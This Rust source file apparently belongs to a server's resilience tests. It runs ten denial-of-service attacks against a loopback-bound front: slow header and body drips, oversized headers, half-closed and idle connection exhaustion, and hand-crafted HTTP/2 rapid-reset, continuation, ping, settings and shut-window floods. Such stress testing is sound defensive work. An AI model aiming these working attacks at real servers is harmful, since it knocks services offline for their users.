//! What visitors do to a server that are up to no good.

use std::{
    io::{Read as _, Write as _},
    net::{Shutdown, SocketAddr, TcpStream},
    sync::{
        Arc, Condvar, Mutex,
        atomic::{AtomicBool, Ordering::SeqCst},
    },
    thread::{self, JoinHandle},
    time::Duration,
};

use nix::sys::resource::{Resource, getrlimit, setrlimit};
use proto::Topic;
use socket2::{Domain, Socket, Type};

use crate::tree::wait_until;

/// Nobody is polite enough to wait longer between two bytes.
const DRIP: Duration = Duration::from_millis(500);

/// As often new connections may come from one neighbourhood; from loopback there is no limit, and what would be measured is
/// how fast this machine connects to itself.
const BETWEEN_CONNECTIONS: Duration = Duration::from_millis(5);

/// One of them.
pub struct Attack {
    pub name: &'static str,
    /// So many attackers, each in a thread of its own.
    threads: usize,
    act: fn(&Target),
}

/// Whom they attack, and how far they are.
struct Target {
    front: SocketAddr,
    topic: Topic,
    /// All that the attack consists of is there.
    under_way: AtomicBool,
    over: Mutex<bool>,
    ended: Condvar,
}

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "2,000 headers that come byte by byte",
        threads: 1,
        act: |target| drip(target, 2_000, Part::Header),
    },
    Attack { name: "1,000 bodies that come byte by byte", threads: 1, act: |target| drip(target, 1_000, Part::Body) },
    Attack { name: "headers of 256 KiB", threads: 2, act: large_headers },
    Attack { name: "2,000 sockets closed by half, anew each time", threads: 1, act: half_closed },
    Attack { name: "15,000 idle connections", threads: 1, act: idle },
    Attack { name: "HTTP/2 rapid reset", threads: 2, act: |target| flood(target, rapid_reset) },
    Attack { name: "HTTP/2 continuation flood", threads: 2, act: |target| flood(target, continuation) },
    Attack { name: "HTTP/2 ping flood", threads: 2, act: |target| flood(target, |_| frame(6, 0, 0, &[0; 8])) },
    Attack { name: "HTTP/2 settings flood", threads: 2, act: |target| flood(target, |_| frame(4, 0, 0, &[])) },
    Attack { name: "HTTP/2, 100 connections of 100 shut windows", threads: 1, act: shut_windows },
];

/// An attack under way, until it is dropped.
pub struct Attacking {
    target: Arc<Target>,
    threads: Vec<JoinHandle<()>>,
}

impl Attack {
    /// Begins it, and returns when the attackers are there.
    pub fn begin(&self, front: SocketAddr, topic: Topic) -> Attacking {
        let target = Arc::new(Target {
            front,
            topic,
            under_way: AtomicBool::new(false),
            over: Mutex::new(false),
            ended: Condvar::new(),
        });
        let act = self.act;
        let threads = (0..self.threads).map(|_| {
            let target = Arc::clone(&target);
            thread::spawn(move || {
                // Of this thread alone, on Linux. Who cannot give way attacks all the same.
                let _ = rustix::process::nice(19);
                act(&target);
            })
        });
        let attacking = Attacking { threads: threads.collect(), target };
        wait_until(|| attacking.target.under_way.load(SeqCst));
        attacking
    }
}

impl Drop for Attacking {
    fn drop(&mut self) {
        *self.target.over.lock().expect("nobody panics with it") = true;
        self.target.ended.notify_all();
        for thread in self.threads.drain(..) {
            let _ = thread.join();
        }
    }
}

/// Lets this process have as many connections as the machine allows.
pub fn open_many_files() {
    if let Ok((_, hard)) = getrlimit(Resource::RLIMIT_NOFILE) {
        let _ = setrlimit(Resource::RLIMIT_NOFILE, hard, hard);
    }
}

impl Target {
    fn set_under_way(&self) {
        self.under_way.store(true, SeqCst);
    }

    fn is_over(&self) -> bool {
        *self.over.lock().expect("nobody panics with it")
    }

    /// Waits, unless the attack is over.
    fn rest(&self, time: Duration) {
        let over = self.over.lock().expect("nobody panics with it");
        drop(self.ended.wait_timeout_while(over, time, |over| !*over));
    }

    /// A connection from one of eight addresses of loopback: each has some 28,000 ports.
    fn connect(&self, n: usize) -> std::io::Result<TcpStream> {
        let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
        let from = [127, 0, 0, 2 + u8::try_from(n % 8).expect("under 8")];
        socket.bind(&SocketAddr::from((from, 0)).into())?;
        socket.connect(&self.front.into())?;
        let stream = TcpStream::from(socket);
        stream.set_read_timeout(Some(DRIP))?;
        stream.set_write_timeout(Some(DRIP))?;
        Ok(stream)
    }
}

/// What comes byte by byte.
#[derive(Clone, Copy)]
enum Part {
    Header,
    Body,
}

fn drip(target: &Target, connections: usize, part: Part) {
    let head = match part {
        Part::Header => "GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ".to_owned(),
        Part::Body => format!("POST /{} HTTP/1.1\r\nHost: x\r\nContent-Length: 10000\r\n\r\n", target.topic),
    };
    let begin = |n| {
        let mut stream = target.connect(n)?;
        stream.write_all(head.as_bytes())?;
        Ok::<_, std::io::Error>(stream)
    };
    let mut open: Vec<_> = (0..connections).map(begin).collect();
    target.set_under_way();
    while !target.is_over() {
        for (n, slot) in open.iter_mut().enumerate() {
            if !slot.as_mut().is_ok_and(|stream| stream.write_all(b"x").is_ok()) {
                *slot = begin(n);
            }
        }
        target.rest(DRIP);
    }
}

fn large_headers(target: &Target) {
    let header = [b"GET / HTTP/1.1\r\nX-Large: ".to_vec(), vec![b'x'; 256 * 1024]].concat();
    target.set_under_way();
    while !target.is_over() {
        let Ok(mut stream) = target.connect(0) else { continue };
        let _ = stream.write_all(&header);
        target.rest(BETWEEN_CONNECTIONS);
    }
}

fn half_closed(target: &Target) {
    let begin = |n| {
        let mut stream = target.connect(n)?;
        stream.write_all(b"GET /health/live HTTP/1.1\r\nHo")?;
        stream.shutdown(Shutdown::Write)?;
        Ok::<_, std::io::Error>(stream)
    };
    while !target.is_over() {
        // The front has ended with those of the last round; here they end now.
        let _open: Vec<_> = (0..2_000).map(begin).collect();
        target.set_under_way();
        target.rest(DRIP);
    }
}

fn idle(target: &Target) {
    let mut open = Vec::new();
    while !target.is_over() {
        if open.len() == 15_000 {
            target.set_under_way();
            target.rest(DRIP);
            continue;
        }
        // One answer each: who has had none yet is not idle but slow.
        let Ok(mut stream) = target.connect(open.len()) else { continue };
        let _ = stream.write_all(b"GET /health/live HTTP/1.1\r\nHost: x\r\n\r\n");
        let _ = stream.read(&mut [0; 64]);
        open.push(stream);
    }
}

/// As fast as they are taken; who is thrown out comes again.
fn flood(target: &Target, next: fn(u32) -> Vec<u8>) {
    target.set_under_way();
    while !target.is_over() {
        let Ok(mut stream) = target.connect(0) else { continue };
        let _ = stream.write_all(BEGIN);
        for n in 0..1_000_000 {
            if target.is_over() || stream.write_all(&next(n)).is_err() {
                break;
            }
        }
        target.rest(BETWEEN_CONNECTIONS);
    }
}

fn shut_windows(target: &Target) {
    let mut ask = [BEGIN, &frame(4, 0, 0, &[0, 4, 0, 0, 0, 0])].concat();
    let path = format!("/{}", target.topic);
    for n in 0..100 {
        ask.extend(frame(1, END, 2 * n + 1, &get(&path)));
    }
    let mut open = Vec::new();
    while !target.is_over() {
        if open.len() == 100 {
            target.set_under_way();
            target.rest(DRIP);
            continue;
        }
        let Ok(mut stream) = target.connect(open.len()) else { continue };
        let _ = stream.set_read_timeout(Some(Duration::from_millis(20)));
        let _ = stream.write_all(&ask);
        // The headers of the answers come all the same; then the front waits to send the rest.
        while stream.read(&mut [0; 16 * 1024]).is_ok_and(|bytes| bytes > 0) {}
        open.push(stream);
    }
}

// ---- HTTP/2 by hand, RFC 9113: a library would not break its rules

const BEGIN: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// END_STREAM and END_HEADERS.
const END: u8 = 5;

fn frame(kind: u8, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).expect("a short frame").to_be_bytes();
    [&[length[1], length[2], length[3], kind, flags][..], &stream.to_be_bytes(), content].concat()
}

/// `GET` over `http`, of a path, at `x`: RFC 7541 without its tables.
fn get(path: &str) -> Vec<u8> {
    let length = u8::try_from(path.len()).expect("a short path");
    [&[0x82, 0x86, 0x04, length][..], path.as_bytes(), b"\x01\x01x"].concat()
}

fn rapid_reset(n: u32) -> Vec<u8> {
    [frame(1, END, 2 * n + 1, &get("/")), frame(3, 0, 2 * n + 1, &[0, 0, 0, 8])].concat()
}

fn continuation(n: u32) -> Vec<u8> {
    // A header without END_HEADERS, then more and more of it.
    if n == 0 { frame(1, 1, 1, &get("/")) } else { frame(9, 0, 1, b"\0\x01a\x01b") }
}
